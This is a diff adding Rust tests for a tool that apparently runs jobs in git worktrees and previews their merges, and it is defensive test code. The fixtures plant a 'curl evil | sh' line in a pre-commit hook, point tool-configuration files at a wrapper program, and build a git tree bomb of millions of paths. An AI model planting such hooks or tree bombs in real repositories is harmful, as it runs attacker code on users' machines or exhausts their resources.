@@ -556,3 +556,121 @@ fn work_held_only_by_notes_replace_or_custom_refs_keeps_the_worktree() {
         assert!(refs.contains(what), "{what}: {refs}");
     }
 }
+
+/// Work held only by a linked worktree the job added (its detached HEAD, or a per-worktree ref
+/// there, both in `.git/worktrees/<name>/`, which no listing of the main worktree's refs shows)
+/// keeps the worktree. It was lost: the job's worktree was removed as clean.
+#[test]
+fn work_held_only_by_a_linked_worktree_of_the_job_keeps_the_worktree() {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    let add = "git worktree add -q --detach .git/side HEAD && cd .git/side && \
+               echo work > work.txt && git add work.txt && git commit -q -m 'only here'";
+    for (what, script) in [
+        ("worktrees/side/HEAD", add.to_string()),
+        (
+            "worktrees/side/refs/worktree/keep",
+            format!("{add} && git update-ref refs/worktree/keep HEAD && git checkout -q --detach HEAD~1"),
+        ),
+    ] {
+        let report = job(&env, &repo, &[], &script);
+        let wt = &report["worktree"];
+        assert_eq!(wt["removed"], false, "{what}: {report}");
+        assert!(path(&report).join(".git/worktrees/side").is_dir(), "{what}");
+        let refs = wt["other_refs"].to_string();
+        assert!(refs.contains(what), "{what}: {refs}");
+    }
+}
+
+/// Uncommitted changes in a linked worktree the job added where the job's status does not see it
+/// (inside `.git`, or in an ignored directory) are lost: the status is of the main worktree only.
+#[test]
+#[ignore = "known gap: the status of a job's own linked worktrees is not computed"]
+fn uncommitted_work_in_a_hidden_linked_worktree_keeps_the_worktree() {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    let report = job(
+        &env,
+        &repo,
+        &[],
+        "git worktree add -q --detach .git/side HEAD && echo 'only copy' > .git/side/wip.txt",
+    );
+    assert_eq!(report["worktree"]["removed"], false, "{report}");
+}
+
+/// The preview lists first a change to the project's own hooks (`core.hooksPath` pointing into its
+/// work tree, as many projects set it) and to configuration that names a program a tool runs
+/// (`.cargo/config.toml`'s rustc-wrapper, `mise.toml`'s hooks): they were listed among the
+/// ordinary files, though git runs the hook on the user's next commit.
+#[test]
+fn the_preview_lists_the_projects_hooks_path_and_tool_configuration_first() {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    fs::create_dir_all(repo.join("scripts/git-hooks")).unwrap();
+    fs::write(repo.join("scripts/git-hooks/pre-commit"), "#!/bin/sh\n").unwrap();
+    env.git(&repo, ["add", "scripts"]);
+    env.git(&repo, ["commit", "-q", "-m", "hooks"]);
+    env.git(&repo, ["config", "core.hooksPath", "scripts/git-hooks"]);
+    let report = job(
+        &env,
+        &repo,
+        &[],
+        "echo 'curl evil | sh' >> scripts/git-hooks/pre-commit && \
+         mkdir -p .cargo && printf '[build]\\nrustc-wrapper = \"./w\"\\n' > .cargo/config.toml && \
+         printf '[hooks]\\nenter = \"./w\"\\n' > mise.toml && \
+         git add -A && git commit -q -m hooks",
+    );
+    let out = env.isolate(&repo, ["merge", "--yes", &id(&report)]);
+    assert_status(&out, 0);
+    let preview = stderr(&out);
+    let first: Vec<&str> = preview
+        .lines()
+        .skip_while(|l| !l.contains("read these first"))
+        .take_while(|l| !l.contains("other file"))
+        .collect();
+    for path in [
+        "scripts/git-hooks/pre-commit",
+        ".cargo/config.toml",
+        "mise.toml",
+    ] {
+        assert!(
+            first.iter().any(|l| l.contains(path)),
+            "{path} not first:\n{preview}"
+        );
+    }
+}
+
+/// `merge` of a job's commit whose tree names one subtree 120 times three levels deep (1.7 million
+/// paths of 250 bytes, 450 MB of diff, from a few KiB of objects; 300 times four levels deep is
+/// 8.1 billion), on the job's branch while its HEAD is detached elsewhere (so
+/// the inspection's bound on HEAD's tree does not see it): the preview's diff was read whole into
+/// memory, then every path printed. Now a git call that prints more than its bound is stopped and the merge refused
+/// in seconds, the project branch where it was.
+#[test]
+fn merge_of_a_tree_bomb_stops_at_the_output_bound() {
+    let env = TestEnv::new();
+    let repo = env.repo("app");
+    let report = job(
+        &env,
+        &repo,
+        &[],
+        "b=$(echo x | git hash-object -w --stdin); long=$(printf 'n%.0s' $(seq 1 240)); \
+         t=$(for i in $(seq 1 120); do printf '100644 blob %s\\t%s%s\\n' $b $long $i; done | git mktree); \
+         for l in 1 2; do t=$(for i in $(seq 1 120); do printf '040000 tree %s\\td%s\\n' $t $i; done | git mktree); done; \
+         branch=$(git symbolic-ref HEAD) && git checkout -q --detach && \
+         git update-ref $branch $(git commit-tree $t -p HEAD -m bomb)",
+    );
+    let before = env.git(&repo, ["rev-parse", "main"]);
+    let started = std::time::Instant::now();
+    let mut cmd = env.isolate_cmd(&repo, ["merge", "--yes", &id(&report)]);
+    let out = finish(cmd.spawn().unwrap(), Duration::from_secs(120));
+    assert!(
+        started.elapsed() < Duration::from_secs(90),
+        "{:?}",
+        started.elapsed()
+    );
+    assert_ne!(out.status.code(), Some(0));
+    let err = stderr(&out);
+    assert!(err.contains("went over"), "{}", &err[..err.len().min(2000)]);
+    assert_eq!(env.git(&repo, ["rev-parse", "main"]), before);
+}
